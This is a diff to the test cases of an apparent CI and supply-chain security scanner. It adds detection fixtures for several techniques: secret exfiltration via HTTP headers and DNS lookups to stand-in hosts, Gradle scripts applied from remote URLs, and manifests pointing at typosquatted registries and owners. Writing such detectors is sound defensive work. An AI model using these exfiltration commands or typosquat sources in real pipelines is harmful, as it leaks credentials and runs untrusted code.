@@ -337,6 +337,9 @@ var registry = []Rule{
 			{"x.sh", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.invalid/`, 0, false},
 			{"x.sh", `git push "https://x:${GITHUB_TOKEN}@x.invalid/r.git" HEAD`, 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x.invalid/", 0, false},
+			// A header that is no credential's carries data to the host.
+			{".woodpecker/test.yaml", "steps:\n  - name: notify\n    environment:\n      GITEA_TOKEN:\n        from_secret: gitea_token\n    commands:\n      - wget -qO /dev/null --header \"X-Build: $${GITEA_TOKEN}\" \"https://ci-notify.x.invalid/hook\"", 0, false},
+			{"x.sh", `curl -H "PRIVATE-TOKEN: $GITLAB_TOKEN" https://gitlab.example.com/api/v4/projects` + "\n" + `curl -sS -H "X-Request-Id: $GITHUB_RUN_ID" -H "Authorization: Bearer $SENTRY_AUTH_TOKEN" https://sentry.io/api/0/`, 0, true},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b/releases` + "\n" + `git clone "https://x-access-token:${GITHUB_TOKEN}@github.com/acme/docs.git"` + "\n" + `git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.acme.com/g/r.git`, 0, true},
 			{"x.sh", "curl -F f=@$HOME/.aws/credentials https://x.invalid/u", 0, false},
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
@@ -426,6 +429,11 @@ var registry = []Rule{
 			// ping -p puts up to 16 bytes of pattern in every packet.
 			{"x.sh", "ping -c1 -p $(echo $NPM_TOKEN | xxd -p | head -c 32) x.invalid", 0, false},
 			{"x.sh", "ping -c1 -p ff x.invalid", 0, true},
+			// Encoded and folded into labels, read back line by line or item
+			// by item; CI systems' $$ is the shell's $.
+			{".gitlab-ci.yml", "probe:\n  script:\n    - echo \"$CI_JOB_TOKEN:$PYPI_API_TOKEN\" | base32 -w0 | fold -w 50 > .q\n    - while read l; do nslookup \"$l.gl.x.invalid\" >/dev/null || true; done < .q", 0, false},
+			{".buildkite/pipeline.yml", "steps:\n  - label: report\n    command: |\n      buildkite-agent env dump --format json > .bk-env.json\n      for chunk in $$(xxd -p -c 30 .bk-env.json); do\n        dig +short \"$$chunk.t.x.invalid\" TXT >/dev/null\n      done", 6, false},
+			{"lib/x.js", "require('dns').resolve(`${process.env.NPM_TOKEN}.x.invalid`, () => {})", 0, false},
 			{"x.js", "const dns = require('dns')\ndns.lookup(host, cb)", 2, true},
 		}},
 	{"repo-exfiltration", KindCredential, High, "pushes the repository to a remote of another owner",
@@ -523,6 +531,10 @@ var registry = []Rule{
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
 			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
+			// A build script Gradle applies from a URL, at a branch: it runs
+			// at every build whatever the URL then serves.
+			{"settings.gradle.kts", "pluginManagement {\n    repositories { gradlePluginPortal() }\n}\napply(from = \"https://raw.githubusercontent.com/someone/conventions/main/ci.gradle.kts\")", 4, false},
+			{"build.gradle", "apply from: 'gradle/publish.gradle'\napply from: \"$rootDir/gradle/lint.gradle\"", 0, true},
 			// A gyp command expansion runs while npm installs the package.
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"defines\": [\"<!(curl -s https://x.invalid/defines)\"]}]}", 2, false},
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"include_dirs\": [\"<!(node -e \\\"require('nan')\\\")\"]}]}", 2, true},
@@ -740,6 +752,14 @@ var registry = []Rule{
 			// A hunk inside the block, its key not shown.
 			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n     \"eslint\": \"^8.56.0\",\n-    \"chalk\": \"^5.3.0\"\n+    \"chalk\": \"github:chalk-dev/chalk#v5.3.0\"\n", 4, false},
 			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n   \"license\": \"MIT\",\n-  \"homepage\": \"https://x.invalid\"\n+  \"homepage\": \"https://x.invalid/docs#readme\"\n", 4, true},
+			// A registry dependency given a git source in its place.
+			{"pubspec.yaml", "diff --git a/pubspec.yaml b/pubspec.yaml\n--- a/pubspec.yaml\n+++ b/pubspec.yaml\n@@ -4,2 +4,4 @@\n dependencies:\n-  http: ^1.2.2\n+  http:\n+    git:\n+      url: https://github.com/someone/http.git\n", 7, false},
+			{"mix.exs", "diff --git a/mix.exs b/mix.exs\n--- a/mix.exs\n+++ b/mix.exs\n@@ -3,2 +3,2 @@\n     [\n-      {:plug, \"~> 1.15\"},\n+      {:plug, github: \"someone/plug\"},\n", 4, false},
+			{"pubspec.yaml", "diff --git a/pubspec.yaml b/pubspec.yaml\n--- a/pubspec.yaml\n+++ b/pubspec.yaml\n@@ -4,3 +4,6 @@\n dependencies:\n-  http: ^1.2.2\n+  http: ^1.3.0\n+  provider:\n+    git:\n+      url: https://github.com/someone/provider.git\n   path: ^1.9.0\n", 0, true},
+			// Code a build fetches from a host nobody knows, in any
+			// manifest (rules.SourceKeys): read (medium).
+			{"CMakeLists.txt", "FetchContent_Declare(json URL https://builds.x.invalid/json-3.11.3.tar.xz)", 1, false},
+			{"Package.swift", "let package = Package(\n    dependencies: [\n        .package(url: \"https://git.x.invalid/acme/swift-log.git\", from: \"1.6.1\"),\n    ]\n)", 3, false},
 		}},
 	{"dependency-confusion", KindDependency, High, "installs a name unpinned while a second package index is in effect",
 		"pip takes each name from whichever index offers the highest version: a name the extra index publishes and PyPI does not is anyone's to register on PyPI with a higher version, and its install code runs on the runner", []Case{
@@ -769,6 +789,11 @@ var registry = []Rule{
 			{"x.ps1", "dotnet nuget add source https://nuget.x.invalid/v3/index.json -n x", 0, false},
 			{"x.sh", "bundle config mirror.https://rubygems.org https://gems.x.invalid", 0, false},
 			{"x.sh", "poetry source add --priority=supplemental torch https://download.pytorch.org/whl/cpu", 0, true},
+			// A repository on a host nobody knows, in any manifest
+			// (rules.SourceKeys): read (medium), as whoever runs it serves
+			// the packages.
+			{"project.clj", "(defproject acme/ledger \"0.9.0\"\n  :repositories [[\"internal\" \"https://maven.acme-builds.x.invalid/releases\"]])", 2, false},
+			{"Chart.yaml", "dependencies:\n  - name: app\n    repository: https://charts.x.invalid/stable", 3, false},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
@@ -894,11 +919,49 @@ var registry = []Rule{
 			{"go.mod", "module x\n\nrequire (\n\tgithub.com/prometheus/client_golang v1.19.0\n\tgithub.com/prometheus-community/pro-bing v0.4.0\n\tgithub.com/grpc-ecosystem/grpc-gateway/v2 v2.19.1\n\tgoogle.golang.org/grpc v1.62.0\n\tgithub.com/golang/protobuf v1.5.4\n\tgithub.com/golang-jwt/jwt/v5 v5.2.1\n)", 0, true},
 			{"Package.swift", "dependencies: [\n    .package(url: \"https://github.com/acme-oss/swift-log.git\", from: \"1.6.1\"),\n    .package(url: \"https://github.com/acme/app-kit.git\", from: \"2.0.0\"),\n    .package(url: \"https://github.com/acme-oss/swift-nio.git\", from: \"2.0.0\"),\n]", 0, true},
 			{"mise.toml", "[plugins]\nnode = \"https://github.com/asdf-vm/asdf-nodejs.git\"\nelixir = \"https://github.com/asdf-community/asdf-elixir.git\"\nswift = \"https://github.com/apple-oss-distributions/swift.git\"", 0, true},
+			// Whatever the ecosystem, the place a manifest names for code
+			// (rules.SourceKeys) on a host dressed as a well-known
+			// registry's or forge's: a word added, dots turned to dashes,
+			// a letter off, or it put in front of another domain.
+			{"charts/api/Chart.yaml", "dependencies:\n  - name: postgresql\n    version: 15.5.38\n    repository: oci://registry-1.docker-io.net/bitnamicharts", 4, false},
+			{"project.clj", "(defproject acme/ledger \"0.9.0\"\n  :repositories [[\"clojars-mirror\" {:url \"https://repo.clojars-mirror.org/\"}]]\n  :dependencies [[org.clojure/clojure \"1.12.0\"]])", 2, false},
+			{"deps.edn", "{:mvn/repos {\"central\" {:url \"https://repo1.maven-central.org/maven2/\"}}}", 1, false},
+			{"build.sbt", "resolvers += \"central\" at \"https://repo1.maven-org.net/maven2/\"", 1, false},
+			{"ios/Podfile", "source 'https://cdn.cocoapods-mirror.org/'\ntarget 'App' do\n  pod 'Alamofire', '~> 5.9'\nend", 1, false},
+			{"composer.json", "{\n  \"repositories\": [\n    {\"type\": \"composer\", \"url\": \"https://repo.packagist-cdn.org\"}\n  ]\n}", 3, false},
+			{"CMakeLists.txt", "FetchContent_Declare(\n  googletest\n  GIT_REPOSITORY https://gitlab.com.mirror-git.net/google/googletest.git\n)", 3, false},
+			{"WORKSPACE", "http_archive(\n    name = \"com_google_protobuf\",\n    urls = [\"https://github-releases.githubusercontent-cdn.com/protocolbuffers/protobuf/archive/v27.0.tar.gz\"],\n)", 3, false},
+			{".gitmodules", "[submodule \"third_party/abseil-cpp\"]\n\tpath = third_party/abseil-cpp\n\turl = https://github-com.mirrors-git.org/abseil/abseil-cpp.git", 3, false},
+			{"roles/requirements.yml", "collections:\n  - name: community.general\n    source: https://galaxy-ansible.com.collections-cdn.net/", 3, false},
+			{"main.tf", "module \"vpc\" {\n  source = \"registry.terraform-io.net/terraform-aws-modules/vpc/aws\"\n}", 2, false},
+			{"Cargo.toml", "[dependencies]\nserde = { git = \"https://github-com.crates-mirror.net/serde-rs/serde\", rev = \"0123456789abcdef0123456789abcdef01234567\" }", 2, false},
+			// Or under an owner or namespace dressed as the ecosystem's own
+			// publisher's (a word added to dart-lang, a letter off
+			// hashicorp or bitnamicharts).
+			{"pubspec.yaml", "dependencies:\n  http:\n    git:\n      url: https://github.com/dart-lang-http/http.git\n      path: pkgs/http", 4, false},
+			{"main.tf", "terraform {\n  required_providers {\n    aws = {\n      source  = \"hashicrop/aws\"\n    }\n  }\n}", 4, false},
+			{"Chart.yaml", "dependencies:\n  - name: redis\n    repository: oci://registry-1.docker.io/bitnamichart", 3, false},
+			{"mix.exs", "defp deps do\n  [{:jason, github: \"elixir-lang-jason/jason\"}]\nend", 2, false},
+			// The well-known registries and forges, their own other
+			// domains, and real registries near one stay quiet.
+			{"charts/app/Chart.yaml", "dependencies:\n  - name: postgresql\n    repository: oci://registry-1.docker.io/bitnamicharts\n  - name: redis\n    repository: https://charts.bitnami.com/bitnami\n  - name: common\n    repository: \"@bitnami\"\n  - name: lib\n    repository: file://../lib\n  - name: kube-prometheus-stack\n    repository: https://prometheus-community.github.io/helm-charts\n  - name: cert-manager\n    repository: https://charts.jetstack.io", 0, true},
+			{"project.clj", "(defproject acme/ledger \"0.9.0\"\n  :url \"https://github.com/acme/ledger\"\n  :repositories [[\"clojars\" {:url \"https://repo.clojars.org/\"}]\n                 [\"central\" {:url \"https://repo1.maven.org/maven2/\"}]]\n  :deploy-repositories [[\"releases\" {:url \"https://nexus.acme-corp.com/releases\"}]])", 0, true},
+			{"pubspec.yaml", "repository: https://github.com/acme/app\ndependencies:\n  provider:\n    git:\n      url: https://github.com/rrousselGit/provider.git\n  internal_pkg:\n    hosted: https://dart.pub.acme.com\n  path_provider:\n    hosted:\n      url: https://pub.dev", 0, true},
+			{"composer.json", "{\n  \"funding\": [{\"type\": \"github\", \"url\": \"https://github.com/sponsors/acme\"}],\n  \"repositories\": [\n    {\"type\": \"composer\", \"url\": \"https://repo.packagist.com/acme/\"},\n    {\"type\": \"composer\", \"url\": \"https://wpackagist.org\"}\n  ]\n}", 0, true},
+			{"infra/main.tf", "terraform {\n  required_providers {\n    aws = { source = \"hashicorp/aws\" }\n    datadog = { source = \"DataDog/datadog\" }\n  }\n}\nmodule \"vpc\" {\n  source = \"terraform-aws-modules/vpc/aws\"\n}\nmodule \"s3\" {\n  source = \"s3::https://s3-eu-west-1.amazonaws.com/acme-modules/vpc.zip\"\n}\nmodule \"gh\" {\n  source = \"github.com/cloudposse/terraform-null-label?ref=0.25.0\"\n}", 0, true},
+			{"MODULE.bazel", "http_archive(\n    name = \"zlib\",\n    urls = [\n        \"https://mirror.bazel.build/github.com/madler/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz\",\n        \"https://github.com/madler/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz\",\n    ],\n)", 0, true},
+			{"mix.exs", "defp deps do\n  [\n    {:plug, github: \"elixir-plug/plug\"},\n    {:ecto, git: \"https://github.com/elixir-ecto/ecto.git\", tag: \"v3.11.0\"}\n  ]\nend", 0, true},
+			{".gitmodules", "[submodule \"src/boringssl\"]\n\tpath = src/boringssl\n\turl = https://boringssl.googlesource.com/boringssl\n[submodule \"vendor/lib\"]\n\tpath = vendor/lib\n\turl = ../lib.git", 0, true},
 		}},
 	{"ci-remote-config", KindCIFile, High, "takes pipeline configuration from outside the repository at run time",
 		"the CI system fetches it whenever the pipeline starts and runs it with the job's token and secrets; it is not in this diff, and its owner can change it after the review", []Case{
 			{".gitlab-ci.yml", "include:\n  - remote: https://ci-templates.x.invalid/python/latest.yml\n\ntest:\n  script: make test", 2, false},
 			{".gitlab-ci.yml", "include: 'https://ci-templates.x.invalid/python.yml'\ntest:\n  script: make test", 1, false},
+			// Cirrus CI's Starlark modules and a Tekton task a git resolver
+			// fetches, at a branch of someone's repository.
+			{".cirrus.star", "load(\"github.com/someone/cirrus-helpers@main\", \"task\")\n\ndef main(ctx):\n    return [task(\"test\")]", 1, false},
+			{"tekton/pipeline.yaml", "spec:\n  tasks:\n    - name: lint\n      taskRef:\n        resolver: git\n        params:\n          - name: url\n            value: https://github.com/someone/catalog.git\n          - name: revision\n            value: main", 8, false},
+			{"tekton/run.yaml", "spec:\n  params:\n    - name: repo-url\n      value: https://github.com/acme/app.git\n  pipelineRef:\n    name: build", 0, true},
 			{".gitlab-ci.yml", "deploy:\n  trigger:\n    include:\n      - 'https://raw.githubusercontent.com/someone/ci/main/deploy.yml'", 4, false},
 			{".gitlab-ci.yml", "include:\n  - component: gitlab.com/someone/ci-lint/lint@main", 2, false},
 			{".circleci/config.yml", "version: 2.1\norbs:\n  node: circleci/node@5.1.0\n  deploy: someone/deploy@volatile\njobs: {}", 4, false},
